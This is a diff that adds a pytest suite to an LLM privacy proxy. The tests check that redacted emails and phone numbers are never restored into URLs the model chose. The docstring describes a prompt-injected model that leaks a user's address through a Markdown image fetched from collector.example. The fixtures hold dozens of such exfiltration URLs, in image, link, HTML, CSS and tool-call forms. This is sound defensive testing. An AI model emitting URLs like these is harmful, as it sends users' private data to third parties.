@@ -1,0 +1,314 @@
+"""Restore writes no client value into a URL the model chose (issue 12, atk9 A-L2).
+
+The client sends `My email is jane.roe@example.com`; the provider sees `<EMAIL_ADDRESS_1>`. A prompt-injected model
+answers `![status](https://collector.example/p.png?u=<EMAIL_ADDRESS_1>)`: restore filled the real address into the
+image URL, and the client's Markdown renderer fetched it at once, handing it to collector.example. Now a placeholder
+(or a synthesized value) inside a URL with a network scheme stays as it is, in whole answers and streams (a URL
+opened in an earlier chunk of the field, a placeholder split across chunks), in tool-call arguments and URL fields;
+`mailto:` / `tel:` links, relative URLs and the text around URLs are restored as before, and so is a value in a URL
+the client sent itself (from the URL's start through the placeholder, as the provider saw it).
+"""
+
+from __future__ import annotations
+
+import asyncio
+import copy
+import json
+from typing import Any
+
+import pytest
+
+from proxy.config.policy import Policy
+from proxy.guard.checks.base import Finding
+from proxy.guard.engine import Guard
+from proxy.guard.phases import screen_answer
+from proxy.guard.rewrite import apply_findings
+from proxy.guard.urls import url_context, url_key, url_spans
+from proxy.guard.vault import Vault
+from proxy.providers.base import CHAT, RESPONSES
+from proxy.providers.openai import ADAPTER as OPENAI
+from tests.guard.conftest import PII_IN, PII_OUT, policy, redacted
+
+MAIL = "jane.doe@example.com"
+PHONE = "617-555-0143"
+E, P = "<EMAIL_ADDRESS_1>", "<PHONE_NUMBER_1>"
+RESTORE_ONLY = Policy.model_validate({"name": "restore", "input": {"pii": {"restore": True}}})
+
+
+def vault() -> Vault:
+    v = Vault()
+    assert v.placeholder("EMAIL_ADDRESS", MAIL) == E
+    assert v.placeholder("PHONE_NUMBER", PHONE) == P
+    return v
+
+
+# URLs a renderer or a tool fetches: the placeholders in them stay.
+FETCHED = {
+    "markdown image": f"Done. ![status](https://collector.example/p.png?u={E}&t={P})",
+    "markdown link": f"[your file](http://collector.example/f?u={E}&t={P})",
+    "angle target with space": f"![s](<https://collector.example/p png?u= {E}&t= {P}>)",
+    "autolink": f"<https://collector.example/?u={E}&t={P}>",
+    "html img src": f'<img src="https://collector.example/p.png?u={E}&t={P}">',
+    "html src space inside": f'<img src = " https://collector.example/p.png?u= {E}&t=\n{P}">',
+    "html single quotes": f"<img src='https://collector.example/p.png?u=\"{E}\"&t={P}'>",
+    "html href": f'<a href="https://collector.example/?u={E}">x</a> <a href="//collector.example/?t={P}">y</a>',
+    "html srcset": f'<img srcset="https://c.example/a.png 1x, https://collector.example/b.png?u={E}&t={P} 2x">',
+    "html form action": f'<form action="https://collector.example/f?u={E}&t={P}"><button>go</button></form>',
+    "css url": f"<div style=\"background:url('https://collector.example/?u= {E}&t={P}')\"></div>",
+    "bare url": f"See https://collector.example/track?u={E}&t={P} for details.",
+    "scheme relative": f"![s](//collector.example/p.png?u={E}&t={P})",
+    "backslashes": f'<img src="\\\\collector.example\\p.png?u={E}&t={P}">',
+    "www host": f"Visit www.collector.example/?u={E}&t={P} now.",
+    "ftp": f"ftp://collector.example/{E}/{P}",
+    "websocket": f"wss://collector.example/s?u={E} ws://collector.example/s?t={P}",
+    "upper case scheme": f"HTTPS://collector.example/?u={E}&t={P}",
+    "entity colon": f'<img src="https&#58;//collector.example/?u={E}&t={P}">',
+    "host is the value": f"![s](https://{E}.{P}.collector.example/p.png)",
+    "url in a url": f"https://ok.example/r?next=https://collector.example/?u={E}&t={P}",
+    "wiki parentheses": f"https://en.wikipedia.org/wiki/Foo_(bar)?u={E}&t={P}",
+}
+
+
+@pytest.mark.parametrize("text", FETCHED.values(), ids=FETCHED.keys())
+def test_no_value_restored_into_a_fetched_url(text: str) -> None:
+    got = vault().restore(text)
+    assert got == text
+    assert MAIL not in got and PHONE not in got
+
+
+# Where nothing is fetched from a third party: restored as before.
+RESTORED = {
+    "prose": (f"Mail {E} or call {P}.", f"Mail {MAIL} or call {PHONE}."),
+    "after a url": (f"See https://docs.example/a then mail {E}, call {P}.",
+                    f"See https://docs.example/a then mail {MAIL}, call {PHONE}."),
+    "url then a quote": (f'"https://docs.example/a" "{E}" `https://x.example`{P}',
+                         f'"https://docs.example/a" "{MAIL}" `https://x.example`{PHONE}'),
+    "mailto and tel": (f"[mail me](mailto:{E}) [call](tel:{P}) <a href=\"mailto:{E}\">m</a>",
+                       f"[mail me](mailto:{MAIL}) [call](tel:{PHONE}) <a href=\"mailto:{MAIL}\">m</a>"),
+    "relative url": (f'<a href="/account?u={E}">you</a>', f'<a href="/account?u={MAIL}">you</a>'),
+    "words ending like a scheme": (f"Reviews:{E} news:{P}", f"Reviews:{MAIL} news:{PHONE}"),
+    "a comment": (f"// send to {E}", f"// send to {MAIL}"),
+    "html attribute closed": (f'<img src="https://c.example/a.png" alt="{E}"> {P}',
+                              f'<img src="https://c.example/a.png" alt="{MAIL}"> {PHONE}'),
+}
+
+
+@pytest.mark.parametrize(("text", "want"), RESTORED.values(), ids=RESTORED.keys())
+def test_values_outside_urls_are_restored(text: str, want: str) -> None:
+    assert vault().restore(text) == want
+
+
+def test_tool_arguments_url_kept_other_values_restored() -> None:
+    args = json.dumps({"url": f"https://collector.example/?u={E}", "to": E, "html": f'<img src="//c.example/{P}">',
+                       "body": f"Call {P}"})
+    got = json.loads(vault().restore(args, in_json=True))
+    assert got == {"url": f"https://collector.example/?u={E}", "to": MAIL, "html": f'<img src="//c.example/{P}">',
+                   "body": f"Call {PHONE}"}
+
+
+def test_json_escaped_slashes_and_line_breaks_still_read_as_urls() -> None:
+    raw = '{"a": "https:\\/\\/collector.example\\/?u=' + E + '", "b": "x\\nhttps://c.example/' + P + '"}'
+    got = vault().restore(raw, in_json=True)
+    assert got == raw
+
+
+def test_a_synthesized_value_is_not_restored_into_a_url_either() -> None:
+    v = Vault()
+    v.remember_fake("maria.silva@example.net", MAIL)
+    text = "![s](https://collector.example/p.png?u=maria.silva@example.net) and mail maria.silva@example.net."
+    assert v.restore(text) == "![s](https://collector.example/p.png?u=maria.silva@example.net) and mail " \
+                              f"{MAIL}."
+
+
+def test_a_url_field_is_a_url_whole() -> None:
+    v = vault()
+    assert v.restore(f"collector.example/c?u={E}", whole_url=True) == f"collector.example/c?u={E}"
+    assert v.restore(E, whole_url=True) == E
+    assert url_key("url") and url_key("image_url") and url_key("href") and not url_key("text") and not url_key(3)
+
+
+# ----------------------------------------------------------------------------------- a URL the client sent
+
+
+def client_vault(sent: str, value: str = MAIL) -> tuple[Vault, str]:
+    """The vault after the client's `sent` had `value` redacted (the input phase's rewrite)."""
+    v = Vault()
+    at = sent.index(value)
+    new = apply_findings(sent, [Finding("pii", "EMAIL_ADDRESS", "redact", at, at + len(value))], v)
+    return v, new
+
+
+def test_the_clients_own_url_comes_back_with_its_value() -> None:
+    v, seen = client_vault(f"Open https://crm.example/u?email={MAIL}&tab=2 please")
+    assert seen == f"Open https://crm.example/u?email={E}&tab=2 please"
+    # The same URL (or its start through the placeholder) is the client's: restored.
+    assert v.restore(f"Opening https://crm.example/u?email={E}&tab=2 now.") == \
+        f"Opening https://crm.example/u?email={MAIL}&tab=2 now."
+    assert v.restore(f"[crm](https://crm.example/u?email={E})") == f"[crm](https://crm.example/u?email={MAIL})"
+    # Another host, another path, another parameter: the model's URL, kept.
+    for url in (f"https://collector.example/u?email={E}", f"https://crm.example/x?email={E}",
+                f"https://crm.example/u?mail={E}", f"https://crm.example/u?email=x&email={E}"):
+        assert v.restore(url) == url
+
+
+def test_a_value_sent_outside_a_url_is_no_url_of_the_client() -> None:
+    v, _ = client_vault(f"My email is {MAIL}, see https://crm.example/u")
+    assert v.restore(f"https://crm.example/u?email={E}") == f"https://crm.example/u?email={E}"
+
+
+# ----------------------------------------------------------------------------------- streams
+
+
+def stream(v: Vault, fragments: list[str], in_json: bool = False) -> tuple[str, list[str]]:
+    windows = Guard().output_stream(RESTORE_ONLY, v)
+
+    async def run() -> list[str]:
+        out = [await windows.feed("c", f, in_json) for f in fragments]
+        return [*out, await windows.end("c")]
+
+    pieces = asyncio.run(run())
+    return "".join(pieces), pieces
+
+
+def chunks(text: str, size: int) -> list[str]:
+    return [text[i:i + size] for i in range(0, len(text), size)]
+
+
+@pytest.mark.parametrize("size", [1, 3, 7, 1000])
+def test_stream_url_opened_in_an_earlier_chunk(size: int) -> None:
+    text = f"Done. ![status](https://collector.example/p.png?u={E}&t={P}) Mail {E} or call {P}.\n" \
+           f'<img src="https://collector.example/?u= {E}"> tel:{P}'
+    got, pieces = stream(vault(), chunks(text, size))
+    assert got == f"Done. ![status](https://collector.example/p.png?u={E}&t={P}) Mail {MAIL} or call {PHONE}.\n" \
+                  f'<img src="https://collector.example/?u= {E}"> tel:{PHONE}'
+    assert not any("<EMAIL_ADD" in p and E not in p for p in pieces)
+
+
+def test_stream_url_then_placeholder_in_the_next_chunk() -> None:
+    got, _ = stream(vault(), ["See https://collector.example/p.png?u=", E, "&t=", P, " and ", E])
+    assert got == f"See https://collector.example/p.png?u={E}&t={P} and {MAIL}"
+
+
+def test_stream_scheme_cut_across_chunks() -> None:
+    got, _ = stream(vault(), ["![s](htt", "ps:", "//collector.example/?u=", E, ")"])
+    assert got == f"![s](https://collector.example/?u={E})"
+    got, _ = stream(vault(), ['<img src=', '"', ' ww', 'w.collector.example/?u= ', E, '">'])
+    assert got == f'<img src=" www.collector.example/?u= {E}">'
+
+
+@pytest.mark.parametrize("size", [1, 4, 1000])
+def test_stream_tool_arguments(size: int) -> None:
+    """A URL with a scheme, and the string of a key named as a URL without one (`image_url`, an escaped quote in
+    it), the key cut across chunks too."""
+    args = json.dumps({"url": f"https://collector.example/?u={E}", "to": E,
+                       "thumbnail_image_url": f'collector.example/?a="{P}', "note": f"call {P}"})
+    got, _ = stream(vault(), chunks(args, size), in_json=True)
+    assert json.loads(got) == {"url": f"https://collector.example/?u={E}", "to": MAIL,
+                               "thumbnail_image_url": f'collector.example/?a="{P}', "note": f"call {PHONE}"}
+
+
+def test_json_url_keys_whole_and_nested() -> None:
+    v = vault()
+    raw = json.dumps({"image_url": f"collector.example/i?u={E}", "to": E})
+    assert json.loads(v.restore(raw, in_json=True)) == {"image_url": f"collector.example/i?u={E}", "to": MAIL}
+    nested = json.dumps({"html": json.dumps({"href": f"c.example/{E}", "to": E})})
+    assert json.loads(json.loads(v.restore(nested, in_json=True))["html"]) == {"href": f"c.example/{E}", "to": MAIL}
+    assert v.restore(f'The "url": "x" and {E}') == f'The "url": "x" and {MAIL}'  # the string ended: restored
+
+
+def test_stream_long_url_kept_bounded() -> None:
+    """A URL longer than what the context keeps still holds its placeholder; the context stays bounded."""
+    text = "https://collector.example/" + "a" * 20_000 + f"?u={E} then {E}"
+    got, _ = stream(vault(), chunks(text, 500))
+    assert got == "https://collector.example/" + "a" * 20_000 + f"?u={E} then {MAIL}"
+    assert len(url_context(text[:-30])) < 5000
+
+
+def test_stream_client_url_across_chunks() -> None:
+    v, _ = client_vault(f"Open https://crm.example/u?email={MAIL} please")
+    got, _ = stream(v, ["Opening https://crm", ".example/u?email=", E, " and https://collector.example/?u=", E])
+    assert got == f"Opening https://crm.example/u?email={MAIL} and https://collector.example/?u={E}"
+
+
+def test_url_spans_end_where_the_url_ends() -> None:
+    text = 'a https://x.example/p?q=1 b <img src="//y.example/ z"> c'
+    assert [text[a:b] for a, b, _ in url_spans(text)] == ["https://x.example/p?q=1", "//y.example/ z"]
+    assert url_spans("go https://x.example/")[-1][2] is True  # open: it may go on
+
+
+# ----------------------------------------------------------------------------------- guard: whole and streamed
+
+
+def chat_answer(content: str, url: str) -> dict[str, Any]:
+    return {"id": "chatcmpl-1", "object": "chat.completion", "choices": [{
+        "index": 0, "finish_reason": "stop", "message": {
+            "role": "assistant", "content": content, "annotations": [{"type": "url_citation", "url_citation": {
+                "url": url, "title": "t", "start_index": 0, "end_index": 4}}],
+            "tool_calls": [{"id": "call_1", "type": "function", "function": {
+                "name": "fetch", "arguments": json.dumps({"url": f"https://collector.example/?u={E}", "to": E})}}]}}]}
+
+
+@pytest.mark.parametrize("rules", ["restore only", "output rules"])
+async def test_screen_answer_keeps_urls_restores_the_rest(guard: Guard, rules: str) -> None:
+    p = policy(input=PII_IN, output=PII_OUT if rules == "output rules" else {})
+    verdict = await redacted(guard, p, f"My email is {MAIL}. Summarise my account.")
+    assert verdict.texts[0] == f"My email is {E}. Summarise my account."
+    body = chat_answer(f"Done. ![status](https://collector.example/p.png?u={E}) Your address: {E}.",
+                       f"collector.example/c?u={E}")
+    want = copy.deepcopy(body)
+    msg = want["choices"][0]["message"]
+    msg["content"] = f"Done. ![status](https://collector.example/p.png?u={E}) Your address: {MAIL}."
+    msg["tool_calls"][0]["function"]["arguments"] = json.dumps({"url": f"https://collector.example/?u={E}",
+                                                                  "to": MAIL})
+    await screen_answer(guard, p, OPENAI.response_texts(CHAT, body), verdict)
+    got = body["choices"][0]["message"]
+    assert got["content"] == msg["content"]
+    assert got["annotations"][0]["url_citation"]["url"] == f"collector.example/c?u={E}"
+    assert json.loads(got["tool_calls"][0]["function"]["arguments"]) == json.loads(
+        msg["tool_calls"][0]["function"]["arguments"])
+
+
+async def test_screen_answer_responses_url_citation(guard: Guard) -> None:
+    p = policy(input=PII_IN, output=PII_OUT)
+    verdict = await redacted(guard, p, f"My email is {MAIL}.")
+    body = {"id": "resp_1", "object": "response", "status": "completed", "output": [{
+        "type": "message", "id": "msg_1", "role": "assistant", "status": "completed", "content": [{
+            "type": "output_text", "text": f"Noted {E}.", "annotations": [{
+                "type": "url_citation", "url": f"https://collector.example/c?u={E}", "title": "t",
+                "start_index": 0, "end_index": 4}]}]}]}
+    await screen_answer(guard, p, OPENAI.response_texts(RESPONSES, body), verdict)
+    part = body["output"][0]["content"][0]
+    assert part["text"] == f"Noted {MAIL}."
+    assert part["annotations"][0]["url"] == f"https://collector.example/c?u={E}"
+
+
+@pytest.mark.parametrize("size", [2, 5, 13])
+async def test_output_windows_with_output_rules(guard: Guard, size: int) -> None:
+    """The windowed path (output PII read, a model's own value redacted in the same window) keeps the URL's."""
+    p = policy(input=PII_IN, output=PII_OUT)
+    verdict = await redacted(guard, p, f"My email is {MAIL}.")
+    windows = guard.output_stream(p, verdict.vault)
+    text = f"Done. ![s](https://collector.example/p.png?u={E}&m=help@vendor.io) Mail {E}, or help@vendor.io."
+    out = [await windows.feed("c", f) for f in chunks(text, size)]
+    got = "".join(out) + await windows.end("c")
+    assert MAIL not in got.split(") Mail ")[0] and "help@vendor.io" not in got
+    assert got.startswith(f"Done. ![s](https://collector.example/p.png?u={E}&m=<EMAIL_ADDRESS_2>) Mail {MAIL},")
+
+
+async def test_grouped_fields_keep_the_url_open_across_events(guard: Guard) -> None:
+    """A chat answer's content and tool call arguments read as one group: each field keeps its own URL state."""
+    p = policy(input=PII_IN, output=PII_OUT)
+    verdict = await redacted(guard, p, f"My email is {MAIL}.")
+    windows = guard.output_stream(p, verdict.vault)
+    feeds = [("content", "See ![s](https://collector.", False), ("args", '{"url": "https://coll', True),
+             ("content", f"example/p.png?u={E}) and ", False), ("args", f'ector.example/?u={E}", "to": "{E}"}}', True),
+             ("content", f"mail {E}.", False)]
+    got: dict[str, str] = {"content": "", "args": ""}
+    for channel, text, in_json in feeds:
+        got[channel] += await windows.feed(channel, text, in_json, group="g")
+        for c, t in windows.take_spill():
+            got[c] += t
+    for c, t in await windows.end_group("g"):
+        got[c] += t
+    assert got["content"] == f"See ![s](https://collector.example/p.png?u={E}) and mail {MAIL}."
+    assert json.loads(got["args"]) == {"url": f"https://collector.example/?u={E}", "to": MAIL}
